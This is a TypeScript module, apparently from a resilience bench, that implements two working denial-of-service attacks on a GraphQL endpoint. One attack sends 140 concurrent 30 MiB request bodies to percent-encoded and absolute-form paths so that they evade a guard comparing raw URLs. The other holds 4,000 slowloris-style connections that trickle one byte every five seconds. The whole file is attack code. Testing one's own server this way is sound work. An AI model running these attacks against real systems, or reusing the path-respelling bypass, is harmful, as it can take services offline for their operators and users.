/** Attacks with anonymous HTTP bodies: large ones on respelled paths, and slow ones. */
import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Target } from './types.ts';

const CONCURRENCY = 140;
const BODY_BYTES = 30 * 1024 * 1024;
const CHUNK = Buffer.alloc(64 * 1024, 'a');

const SLOW_BODIES = 4_000;
/** ms between two bytes of a slow body. */
const BYTE_INTERVAL_MS = 5_000;
/** ms before a closed or rejected connection is opened again, which bounds the load of 4,000 connections. */
const RECONNECT_MS = 1_000;

/**
 * Attack 2a: 140 requests of 30 MiB at once, half percent-encoded, half in absolute form. Both are the route `/graphql`
 * for a router, and another path for a guard that compares raw URLs.
 */
export const sendLargeBodies: Attack = async (target, count) => {
  const paths = ['/%67raphql', 'http://x/graphql'];
  const end = Date.now() + target.seconds * 1_000;
  const keepSending = async (_: unknown, at: number) => {
    while (Date.now() < end) {
      count(await sendLargeBody(target, paths[at % paths.length] ?? '', end));
      await delay(10);
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, keepSending));
};

function sendLargeBody({ url }: Target, path: string, end: number): Promise<string> {
  const [head, tail] = ['{"query":"{__typename}","padding":"', '"}'];
  const length = head.length + BODY_BYTES + tail.length;
  const { hostname, port, host } = new URL(url);
  const headers = { host, 'content-type': 'application/json', 'content-length': length };
  return new Promise((resolve) => {
    const sent = request({ hostname, port, path, method: 'POST', headers, agent: false });
    const finish = (answer: string) => {
      clearTimeout(timer);
      sent.destroy();
      resolve(answer);
    };
    const timer = setTimeout(finish, end - Date.now(), 'unanswered');
    sent.on('response', ({ statusCode }) => finish(`${statusCode}`));
    sent.on('error', (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
    sent.write(head);
    let left = BODY_BYTES;
    const write = () => {
      while (left > 0 && !sent.destroyed) {
        left -= CHUNK.length;
        if (!sent.write(CHUNK)) return sent.once('drain', write);
      }
      return sent.end(tail);
    };
    write();
  });
}

/** Attack 2b: 4,000 anonymous connections that send a small body one byte every five seconds. */
export const sendSlowBodies: Attack = async (target, count) => {
  const end = Date.now() + target.seconds * 1_000;
  const keepSending = async (_: unknown, at: number) => {
    // 1,000 connections per second: faster, the bench would measure the listen backlog.
    await delay(at);
    while (Date.now() < end) {
      count(await sendSlowBody(target, end));
      await delay(Math.min(RECONNECT_MS, Math.max(0, end - Date.now())));
    }
  };
  await Promise.all(Array.from({ length: SLOW_BODIES }, keepSending));
};

function sendSlowBody({ url }: Target, end: number): Promise<string> {
  const { hostname, port, host } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port) });
    const finish = (answer: string) => {
      clearTimeout(timer);
      clearInterval(bytes);
      socket.destroy();
      resolve(answer);
    };
    const timer = setTimeout(finish, end - Date.now(), 'still open');
    const bytes = setInterval(() => socket.write(' '), BYTE_INTERVAL_MS);
    socket.once('data', (data) => finish(String(data).slice(9, 12)));
    socket.once('error', (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
    socket.once('close', () => finish('closed'));
    socket.write(
      `POST /graphql HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
    );
  });
}
